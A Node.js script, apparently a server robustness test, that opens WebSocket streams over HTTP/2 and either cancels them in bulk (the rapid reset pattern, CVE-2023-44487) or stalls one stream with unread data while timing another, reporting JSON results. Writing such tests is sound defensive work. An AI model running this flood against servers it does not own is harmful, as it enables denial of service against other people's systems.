// Abuse of WebSockets over HTTP/2 (RFC 8441), with Node's own `http2` module.
//
//   node h2_abuse.js URL reset N   opens N WebSocket streams and cancels each at once (the
//                                  "rapid reset" pattern, CVE-2023-44487), as fast as it can;
//                                  prints how many it opened and how the server ended it
//   node h2_abuse.js URL stall     on one connection, stream A sends 4 MiB of 16 KiB messages to
//                                  /echo and never reads the echoes; meanwhile stream B, on the
//                                  same connection, does 50 round trips to /echo; prints them
// Prints one JSON line; exits 1 on a failure or after 30 s.
'use strict';
const http2 = require('http2');
const { frame, frameReader, connect } = require('./h2_ws');

const [url, mode, nArg] = process.argv.slice(2);
const timer = setTimeout(() => fail('timed out'), 30000);
function fail(why) {
  console.log(JSON.stringify({ ok: false, error: why }));
  process.exit(1);
}
function done(report) {
  clearTimeout(timer);
  console.log(JSON.stringify(Object.assign({ ok: true }, report)));
  process.exit(0);
}

const session = http2.connect(url, { rejectUnauthorized: false });
session.on('error', () => {}); // the server may end this connection: that is reported below

if (mode === 'reset') {
  const n = Number(nArg || 1000);
  let opened = 0;
  let goaway = null;
  session.on('goaway', (code) => { goaway = code; });
  session.once('remoteSettings', () => {
    for (let i = 0; i < n && !session.closed && !session.destroyed; i++) {
      try {
        const s = connect(session, '/echo', { 'sec-websocket-version': '13' });
        s.on('error', () => {});
        s.close(http2.constants.NGHTTP2_CANCEL);
        opened++;
      } catch (e) {
        break;
      }
    }
    // Wait until the server has answered all of it: a ping round trip, or the end.
    const end = () => done({ opened, goaway, closed: session.closed || session.destroyed });
    session.on('close', end);
    if (!session.destroyed) session.ping(() => setTimeout(end, 200));
  });
} else if (mode === 'stall') {
  session.once('remoteSettings', () => {
    // This client's own connection window is no limit: only the server's handling is tested.
    session.setLocalWindowSize(64 * 1024 * 1024);
    // A: sends and never reads; its echoes stop at HTTP/2 flow control.
    const a = connect(session, '/echo', { 'sec-websocket-version': '13' });
    a.on('error', () => {});
    a.on('response', () => {
      a.pause();
      const chunk = frame(2, Buffer.alloc(16 * 1024, 7));
      for (let i = 0; i < 256; i++) a.write(chunk);
      // B: round trips on the same connection.
      const b = connect(session, '/echo', { 'sec-websocket-version': '13' });
      let trips = 0;
      const started = Date.now();
      b.on('response', (h) => {
        if (h[':status'] !== 200) fail(`B got ${h[':status']}`);
        b.write(frame(1, Buffer.from('ping 0')));
      });
      b.on('data', frameReader((opcode, payload) => {
        if (opcode !== 1) return;
        if (payload.toString() !== `ping ${trips}`) fail(`B got ${payload}`);
        trips++;
        if (trips === 50) return done({ trips, ms: Date.now() - started, a_buffered: a.writableLength });
        b.write(frame(1, Buffer.from(`ping ${trips}`)));
      }));
      b.on('error', (e) => fail(`B: ${e}`));
    });
  });
} else {
  fail(`unknown mode ${mode}`);
}
